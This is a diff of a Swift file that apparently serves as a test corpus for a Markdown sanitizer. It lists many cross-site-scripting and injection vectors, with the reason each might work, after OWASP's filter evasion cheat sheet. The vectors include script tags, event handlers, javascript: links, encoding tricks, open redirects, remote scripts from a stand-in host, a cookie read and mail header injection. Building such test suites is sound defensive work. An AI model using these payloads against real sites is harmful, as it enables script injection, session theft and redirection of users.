@@ -1,14 +1,28 @@
-/// Attempts at injection through Markdown, after the categories of OWASP's filter evasion cheat sheet.
+/// Attempts at injection through Markdown, each with the reason why it might work, after the classes of OWASP's filter
+/// evasion cheat sheet, of PortSwigger's, of html5sec, and of the bugs of Markdown renderers.
 enum HostileMarkup {
-    /// One a line; `⏎` is a line break, `⇥` a tab.
-    static let vectors: [String] =
-        written.split(separator: "\n").map { line in
-            String(
-                String.UnicodeScalarView(
-                    line.unicodeScalars.map { $0 == "⏎" ? "\n" : $0 == "⇥" ? "\t" : $0 }
-                )
-            )
-        } + invisible
+    /// All of them.
+    static let vectors: [String] = rows.map(\.text)
+
+    /// Each vector with its reason.
+    static let rows: [(text: String, reason: String)] =
+        read(written) + read(mutating)
+        + invisible.map { ($0, "characters that are not seen part or precede what a filter looks for") }
+
+    /// A vector a line below the reason for all up to the next; `⏎` is a line break, `⇥` a tab.
+    private static func read(_ table: String) -> [(text: String, reason: String)] {
+        var reason = ""
+        var rows: [(text: String, reason: String)] = []
+        for line in table.split(separator: "\n") {
+            if line.hasPrefix("## ") {
+                reason = String(line.dropFirst(3))
+            } else {
+                let scalars = line.unicodeScalars.map { $0 == "⏎" ? "\n" : $0 == "⇥" ? "\t" : $0 }
+                rows.append((String(String.UnicodeScalarView(scalars)), reason))
+            }
+        }
+        return rows
+    }
 
     /// Disguises in characters that are not seen.
     private static let invisible = [
@@ -23,6 +37,7 @@ enum HostileMarkup {
     ]
 
     private static let written = ##"""
+        ## a script element in each of its spellings, closed or not, nested or after a broken tag
         <script>alert(1)</script>
         <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
         <script src="//evil.example/x.js"></script>
@@ -36,6 +51,7 @@ enum HostileMarkup {
         "><script>alert(1)</script>
         '><script>alert(1)</script>
         <scr<script>ipt>alert(1)</scr</script>ipt>
+        ## an image runs a handler when it fails to load, or took a script for its address in old browsers
         <img src=x onerror=alert(1)>
         <img src="javascript:alert(1)">
         <img src=javascript:alert('1')>
@@ -54,6 +70,7 @@ enum HostileMarkup {
         <img lowsrc="javascript:alert(1)">
         <img src='vbscript:msgbox("1")'>
         <img srcset="x 1x, javascript:alert(1) 2x">
+        ## SVG and MathML have scripts, handlers and links of their own
         <svg/onload=alert(1)>
         <svg><script>alert(1)</script></svg>
         <svg><animate onbegin=alert(1) attributeName=x dur=1s>
@@ -61,22 +78,26 @@ enum HostileMarkup {
         <svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
         <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
         <math href="javascript:alert(1)">x</math>
+        ## page elements run handlers or load from elsewhere when they stand in the body
         <body onload=alert(1)>
         <body background="javascript:alert(1)">
         <bgsound src="javascript:alert(1);">
         <br size="&{alert(1)}">
         <link rel="stylesheet" href="javascript:alert(1);">
         <link rel=import href="https://evil.example/x">
+        ## style can load, overlay the page, and ran scripts in old browsers
         <style>@import'https://evil.example/x.css';</style>
         <style>body{background:url("javascript:alert(1)")}</style>
         <div style="background-image: url(javascript:alert(1))">
         <div style="width: expression(alert(1));">
         <xss style="behavior: url(xss.htc);">
         <p style="position:fixed;inset:0">
+        ## meta and base turn the page or all its links elsewhere
         <meta http-equiv="refresh" content="0;url=javascript:alert(1);">
         <meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4=">
         <meta charset="utf-7">
         <base href="javascript:alert(1);//">
+        ## frames and plug-ins hold documents of the attacker's
         <iframe src="javascript:alert(1);"></iframe>
         <iframe srcdoc="<script>alert(1)</script>">
         <iframe src=# onload="alert(1)"></iframe>
@@ -85,6 +106,7 @@ enum HostileMarkup {
         <object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
         <embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
         <applet code="x">
+        ## a resource of a table, a form or a medium is an address that may be a script
         <table background="javascript:alert(1)"><td background="javascript:alert(1)">
         <input type="image" src="javascript:alert(1);">
         <input autofocus onfocus=alert(1)>
@@ -98,14 +120,17 @@ enum HostileMarkup {
         <video src=x onerror=alert(1)>
         <audio src=x onerror=alert(1)>
         <video poster="javascript:alert(1)">
+        ## elements that fire without the reader's doing
         <details open ontoggle=alert(1)>
         <marquee onstart=alert(1)>
+        ## a link or a word that acts when it is clicked or touched
         <a href="javascript:alert(1)">x</a>
         <a href="javas&#99;ript:alert(1)">x</a>
         <a href="https://evil.example" onclick="alert(1)">x</a>
         <a href=//evil.example>x</a>
         <a onmouseover=alert(document.cookie)>x</a>
         <b onmouseover=alert(1)>x</b>
+        ## the tokenizer's states: what is text to one reader is markup to the next
         <noscript><p title="</noscript><img src=x onerror=alert(1)>">
         <template><script>alert(1)</script></template>
         <title><img src=x onerror=alert(1)></title>
@@ -123,6 +148,7 @@ enum HostileMarkup {
         <% foo><x foo="%><script>alert(1)</script>">
         </ foo="><script>alert(1)</script>">
         <?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
+        ## allowed tags with attributes that are not, and tags that are nearly allowed
         <a/href/=javascript:alert(1)>x
         <x onclick=alert(1) contenteditable>x</x>
         <sup onclick=alert(1)>x</sup>
@@ -131,6 +157,7 @@ enum HostileMarkup {
         <br/onload=alert(1)>
         <sup></sub></sup><sub>
         <sup>*</sup>*
+        ## a Markdown link to a script, its scheme in other letters, entities, escapes, white space
         [x](javascript:alert(1))
         [x](JAVASCRIPT:alert(1))
         [x](JaVaScRiPt:alert(1))
@@ -161,6 +188,7 @@ enum HostileMarkup {
         [x](feed:javascript:alert(1))
         [x](view-source:javascript:alert(1))
         [x](jar:javascript:alert(1))
+        ## other schemes that run, show or fetch what they should not
         [x](vbscript:msgbox(1))
         [x](VBScript:msgbox(1))
         [x](livescript:alert(1))
@@ -178,6 +206,7 @@ enum HostileMarkup {
         [x](ftp://example.org)
         [x](intent://x#Intent;end)
         [x](ms-word:ofe|u|https://example.org)
+        ## an address that browsers take for another one than it seems
         [x](//evil.example)
         [x](///evil.example)
         [x](/\evil.example)
@@ -189,6 +218,7 @@ enum HostileMarkup {
         [x](https://user@evil.example)
         [x](https://google.example%40evil.example@evil.example)
         [x](https://google.example\@evil.example)
+        ## leaving the attribute by a quotation mark, an entity or a title
         [x](https://a.example/"onmouseover="alert(1))
         [x](https://a.example/' onmouseover='alert(1))
         [x](<https://a.example/" onmouseover="alert(1)>)
@@ -197,16 +227,19 @@ enum HostileMarkup {
         [x](https://a.example 'x" onclick="alert(1)')
         [x](https://a.example "<script>alert(1)</script>")
         [x](https://a.example/<script>alert(1)</script>)
+        ## an address for mail with more in it than one
         [x](mailto:a@b.example?subject=x%0d%0aBcc:c@d.example)
         [x](mailto:javascript:alert(1))
         [x](mailto:)
         [x](#"onclick="alert(1))
+        ## a link within a link, markup in the words of a link
         [<script>alert(1)</script>](https://a.example)
         [a [b](https://b.example)](https://a.example)
         [a https://b.example c](https://a.example)
         [a <https://b.example> c](https://a.example)
         [![x](javascript:alert(1))](javascript:alert(1))
         [![x](https://a.example/x.png)](https://a.example)
+        ## an image whose address or description leaves its attribute
         ![x](javascript:alert(1))
         ![x](data:image/png;base64,iVBORw0KGgo=)
         ![x" onerror="alert(1)](https://a.example/x.png)
@@ -215,9 +248,11 @@ enum HostileMarkup {
         ![x](//evil.example/x.png)
         ![[x](javascript:alert(1))](https://a.example/x.png)
         ![](x:y)
+        ## a link defined elsewhere in the text
         [x]⏎⏎[x]: javascript:alert(1)
         [x][y]⏎⏎[y]: <data:text/html,x> "t"
         [x]⏎⏎[x]: https://a.example '"><script>alert(1)</script>'
+        ## an address in angle brackets or bare, with a script or markup behind it
         <javascript:alert(1)>
         <JAVASCRIPT:alert(1)>
         <data:text/html,x>
@@ -233,6 +268,7 @@ enum HostileMarkup {
         http://javascript:alert(1)
         xmpp:a@b.example/"x
         mailto:a@b.example"onclick=alert(1)
+        ## code, and what its fence's language becomes in the class
         `<script>alert(1)</script>`
         ``` <script>⏎<script>alert(1)</script>⏎```
         ```"><script>alert(1)</script>⏎x⏎```
@@ -240,6 +276,7 @@ enum HostileMarkup {
         ```a&quot;onclick=alert(1)⏎x⏎```
         ~~~ </code></pre><script>⏎</code></pre><script>alert(1)</script>⏎~~~
             <script>alert(1)</script>
+        ## markup inside each block of Markdown, and across the marks of emphasis
         > <script>alert(1)</script>
         - <script>alert(1)</script>
         # <script>alert(1)</script>
@@ -247,8 +284,10 @@ enum HostileMarkup {
         **<script>alert(1)</script>**
         ~~<script>~~alert(1)~~</script>~~
         *<b onclick="*alert(1)*">*
+        ## tables and what ends them
         | <script>alert(1)</script> |⏎|-|⏎| <img src=x onerror=alert(1)> |
         | x⏎|-⏎| </td></tr></table><script>alert(1)</script>
+        ## decoding twice, or in another character set
         &lt;script&gt;alert(1)&lt;/script&gt;
         &#60;script&#62;alert(1)&#60;/script&#62;
         &#x3C;img src=x onerror=alert(1)&#x3E;
@@ -259,9 +298,11 @@ enum HostileMarkup {
         +ADw-script+AD4-alert(1)+ADw-/script+AD4-
         %3Cscript%3Ealert(1)%3C/script%3E
         ＜script＞alert(1)＜/script＞
+        ## templates of other languages
         {{constructor.constructor('alert(1)')()}}
         ${alert(1)}
         <%= 7*7 %>
+        ## lists with strange numbers, footnotes with markup
         1. <li><script>
         999999999. x
         0. x
